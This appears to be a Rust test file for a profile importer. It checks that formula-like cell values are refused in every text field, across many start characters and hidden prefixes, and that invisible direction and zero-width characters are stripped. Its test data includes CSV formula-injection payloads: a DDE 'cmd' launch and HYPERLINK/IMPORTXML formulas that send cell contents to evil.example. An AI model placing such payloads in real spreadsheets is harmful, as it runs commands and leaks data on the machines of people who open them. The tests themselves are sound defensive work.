//! Formulas and invisible characters in cells.

use crate::fixture::{read, reasons};

/// Spellings of formulas that spreadsheets evaluate, or could after removing something.
fn formulas() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
        "SUM(A1:A9)*cmd|' /C calc'!A0",
        "IMPORTXML(\"https://evil.example\",\"//a\")",
    ];
    let starts = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"];
    let plain = starts
        .iter()
        .flat_map(|start| bodies.map(|body| format!("{start}{body}")));
    let before = [
        " ",
        "\t",
        "\n",
        "\r\n",
        "\u{a0}",
        "\u{3000}",
        "\u{200b}",
        "\u{feff}",
        "\u{202e}",
        "\u{2066}",
        "\u{ad}",
        "'",
        "\u{200f}'",
    ];
    let hidden = before.iter().map(|before| format!("{before}=1+1"));
    plain.chain(hidden).collect()
}

#[test]
fn formulas_in_sixty_spellings_are_refused_in_every_text_field() {
    let formulas = formulas();
    assert!(formulas.len() >= 60);
    for formula in formulas {
        for field in [
            "first_name",
            "last_name",
            "current_position",
            "current_company",
            "location",
            "skills",
            "bio",
        ] {
            let reasons = reasons(&[(field, &formula)]);
            assert_eq!(
                reasons,
                [format!("{field} must not begin like a formula")],
                "{formula:?}"
            );
        }
    }
}

#[test]
fn control_characters_of_direction_and_zero_width_are_removed() {
    for hidden in ('\u{200b}'..='\u{200f}')
        .chain('\u{202a}'..='\u{202e}')
        .chain('\u{2066}'..='\u{2069}')
        .chain(['\u{feff}', '\u{61c}', '\u{ad}'])
    {
        let row = read(&[("last_name", &format!("{hidden}Dia{hidden}llo{hidden}"))]).unwrap();
        let name = row.last_name.as_str();
        // The two joiners are needed within words of Persian, Urdu and Indian languages.
        let is_joiner = matches!(hidden, '\u{200c}' | '\u{200d}');
        let expected = if is_joiner {
            format!("Dia{hidden}llo")
        } else {
            "Diallo".to_owned()
        };
        assert_eq!(name, expected, "{}", hidden.escape_unicode());
    }
    let row = read(&[("bio", "Led \u{202e}evil\u{202c} teams\u{2066}")]).unwrap();
    assert_eq!(row.bio.as_deref(), Some("Led evil teams"));
}
